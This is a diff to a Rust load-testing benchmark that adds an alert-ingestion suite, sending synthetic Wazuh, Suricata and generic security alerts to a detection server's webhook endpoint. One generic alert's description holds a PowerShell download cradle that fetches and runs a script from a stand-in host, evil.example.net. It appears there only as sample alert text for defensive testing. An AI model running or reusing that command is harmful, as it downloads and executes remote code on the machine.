@@ -36,6 +36,8 @@ struct Args {
 enum Suite {
     /// Start-up, idle memory, login, authenticated and no-op request rates.
     Foundation,
+    /// Alert ingestion over HTTP: single-alert requests and NDJSON batches, 30% duplicates.
+    Ingest,
     /// Audit trail: append rate through the store and full verification speed over N records.
     Audit {
         /// Records in the chain.
@@ -301,6 +303,153 @@ async fn foundation(args: &Args) -> anyhow::Result<String> {
     Ok(out)
 }
 
+/// A realistic payload (1-2 KB) of one of three formats; `n` picks format and identity.
+fn payload(n: u64) -> (&'static str, String) {
+    let ip = format!("203.0.{}.{}", (n / 250) % 250, n % 250);
+    let pad = "x".repeat(600);
+    match n % 3 {
+        0 => ("wazuh", json!({
+            "id": format!("{n}.1715430559"), "timestamp": "2024-05-11T12:29:19.905+0000",
+            "rule": {"level": 10, "description": "sshd: brute force trying to get access to the system.", "id": "5712",
+                     "mitre": {"id": ["T1110"], "tactic": ["Credential Access"]}, "groups": ["syslog", "sshd", "authentication_failures"]},
+            "agent": {"id": "001", "name": "web-01", "ip": "10.0.0.5"},
+            "data": {"srcip": ip, "srcuser": "root"},
+            "full_log": format!("May 11 12:29:19 web-01 sshd[1234]: Failed password for root from {ip} port 22 ssh2 {pad}"),
+            "location": "/var/log/auth.log"
+        }).to_string()),
+        1 => ("suricata", json!({
+            "timestamp": "2024-05-11T12:29:19.905+0000", "flow_id": n, "event_type": "alert",
+            "src_ip": ip, "src_port": 51234, "dest_ip": "10.0.0.7", "dest_port": 443, "proto": "TCP",
+            "alert": {"action": "allowed", "gid": 1, "signature_id": 2024897, "rev": 2,
+                      "signature": "ET MALWARE Possible stealer exfiltration to evil-domain.com", "category": "A Network Trojan was detected", "severity": 1,
+                      "metadata": {"mitre_technique_id": ["T1041"]}},
+            "http": {"hostname": "evil-domain.com", "url": "/upload.php", "http_user_agent": pad}
+        }).to_string()),
+        _ => ("generic", json!({
+            "source_id": format!("gen-{n}"), "title": "Suspicious PowerShell download cradle", "severity": "high",
+            "hostname": "ws-042", "source_ip": ip, "username": "alice",
+            "description": format!("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1') {pad}"),
+            "tags": ["powershell", "execution"], "mitre_techniques": ["T1059.001"]
+        }).to_string()),
+    }
+}
+
+/// Ingestion: single-alert requests and NDJSON batches of 100, 30% duplicates, against the
+/// same server's no-op rate.
+async fn ingest(args: &Args) -> anyhow::Result<String> {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicU64, Ordering};
+    let duration = Duration::from_secs(args.duration);
+    let dir = tempfile::tempdir()?;
+    let (server, _) = Server::start(&args.bin, dir)?;
+    let base = server.base.clone();
+    let out = Command::new(&args.bin)
+        .args([
+            "api-key",
+            "create",
+            "--name",
+            "bench",
+            "--scope",
+            "webhooks:ingest",
+        ])
+        .env("BULWARK_DATA_DIR", server._dir.path().join("data"))
+        .output()?;
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    let key = text
+        .lines()
+        .find_map(|l| l.strip_prefix("key (shown once): "))
+        .context("no key printed")?
+        .to_string();
+
+    let healthz = {
+        let url = format!("{base}/healthz");
+        load(
+            "GET /healthz (no-op)",
+            args.concurrency,
+            duration,
+            move |c| c.get(&url),
+        )
+        .await
+    };
+    // 30% of requests repeat an earlier alert (same source id).
+    let counter = Arc::new(AtomicU64::new(0));
+    let single = {
+        let base = base.clone();
+        let key = key.clone();
+        let counter = Arc::clone(&counter);
+        load(
+            "POST /webhooks/alerts/{source}, 1 alert",
+            args.concurrency,
+            duration,
+            move |c| {
+                let i = counter.fetch_add(1, Ordering::Relaxed);
+                let n = if i % 10 < 3 && i > 10 { i / 2 } else { i };
+                let (src, body) = payload(n);
+                c.post(format!("{base}/api/v1/webhooks/alerts/{src}"))
+                    .header("x-api-key", &key)
+                    .header("content-type", "application/json")
+                    .body(body)
+            },
+        )
+        .await
+    };
+    let rss_single = server.rss_kib();
+    let batch_counter = Arc::new(AtomicU64::new(10_000_000));
+    let batch = {
+        let base = base.clone();
+        let key = key.clone();
+        let counter = Arc::clone(&batch_counter);
+        load(
+            "POST /webhooks/alerts/wazuh, NDJSON x100",
+            16,
+            duration,
+            move |c| {
+                let mut body = String::new();
+                for _ in 0..100 {
+                    let i = counter.fetch_add(3, Ordering::Relaxed);
+                    let n = if i % 10 < 3 { i / 2 - i / 2 % 3 } else { i };
+                    body.push_str(&payload(n).1);
+                    body.push('\n');
+                }
+                c.post(format!("{base}/api/v1/webhooks/alerts/wazuh"))
+                    .header("x-api-key", &key)
+                    .header("content-type", "application/x-ndjson")
+                    .body(body)
+            },
+        )
+        .await
+    };
+    let rss_after = server.rss_kib();
+    server.stop()?;
+    let mb = |k: Option<u64>| k.unwrap_or(0) as f64 / 1024.0;
+    let cpus = std::thread::available_parallelism().map_or(0, |n| n.get());
+    let mut out = format!(
+        "### Ingestion ({} s per phase, {} CPUs, SQLite, load generator on the same machine)\n\n",
+        args.duration, cpus
+    );
+    out.push_str("| phase | requests/s | alerts/s | p50 | p99 | errors |\n| --- | --- | --- | --- | --- | --- |\n");
+    for (r, per) in [(&healthz, 0.0), (&single, 1.0), (&batch, 100.0)] {
+        out.push_str(&format!(
+            "| {} | {:.0} | {} | {:.2} ms | {:.2} ms | {} |\n",
+            r.name,
+            r.rate,
+            if per > 0.0 {
+                format!("{:.0}", r.rate * per)
+            } else {
+                "-".into()
+            },
+            r.p50_ms,
+            r.p99_ms,
+            r.errors
+        ));
+    }
+    out.push_str(&format!(
+        "\nSingle-alert ingestion runs at {:.0}% of the no-op rate. RSS after the single-alert phase {:.1} MB, after the batch phase {:.1} MB.\n",
+        100.0 * single.rate / healthz.rate.max(1.0), mb(rss_single), mb(rss_after)
+    ));
+    Ok(out)
+}
+
 /// Appends `records` audit events (one transaction each, as a real change would) and then
 /// verifies the whole chain from genesis, with a checkpoint signed at the end.
 async fn audit(records: u64, url: Option<String>) -> anyhow::Result<String> {
@@ -379,6 +528,7 @@ fn main() -> anyhow::Result<()> {
     let report = rt.block_on(async {
         match args.suite {
             Suite::Foundation => foundation(&args).await,
+            Suite::Ingest => ingest(&args).await,
             Suite::Audit {
                 records,
                 ref database_url,
